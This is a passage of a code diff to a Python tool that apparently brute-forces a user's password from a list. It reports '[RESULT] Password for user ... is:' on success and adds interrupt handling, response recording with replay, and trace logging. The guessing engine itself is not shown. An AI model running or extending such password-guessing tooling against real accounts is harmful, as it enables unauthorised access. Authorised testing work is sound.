+        console.event(Fore.YELLOW + '[!] Interrupted by user. Exiting gracefully...')
+        engine.cancel()
+
+    signal.signal(signal.SIGINT, interrupt)
+    with exporter:
+        try:
+            found = engine.run(passwords, total)
+        except ImportError as e:
+            print(Fore.RED + f"[!] {e}")
+            sys.exit(1)
+    if recorder:
+        recorder.close()
+        if engine.processes > 1:
+            print(Fore.CYAN + f"[INFO] Each shard recorded to {record}.<shard>; replay them together: python3 recording.py replay {record}.*")
+        else:
+            print(Fore.CYAN + f"[INFO] Recorded {recorder.count} responses to {record}; replay with: python3 recording.py replay {record}")
+    if tracer:
+        events = tracer.save(trace_file)
+        dropped = f", {tracer.dropped} dropped over the cap" if tracer.dropped else ""
+        print(Fore.CYAN + f"[INFO] Wrote {events} trace events from {tracer.attempts} attempts to {trace_file}{dropped}")
     if found:
-        print(Fore.GREEN + f"\n[RESULT] Password for user '{username}' is: {found}")
-        log_result(logfile, f"[RESULT] Password for user '{username}' is: {found}")
+        print(Fore.GREEN + f"\n[RESULT] Password for user '{engine.username}' is: {found}")
+        if logfile:
+            logfile.write(f"[RESULT] Password for user '{engine.username}' is: {found}")
     else:
-        print(Fore.YELLOW + f"\n[RESULT] No valid password found for user '{username}'.")
-        log_result(logfile, f"[RESULT] No valid password found for user '{username}'.")
+        print(Fore.YELLOW + f"\n[RESULT] No valid password found for user '{engine.username}'.")
+        if logfile:
+            logfile.write(f"[RESULT] No valid password found for user '{engine.username}'.")
+    if logfile:
+        logfile.close()
 
 if __name__ == "__main__":
-    main() 
\ No newline at end of file
+    main()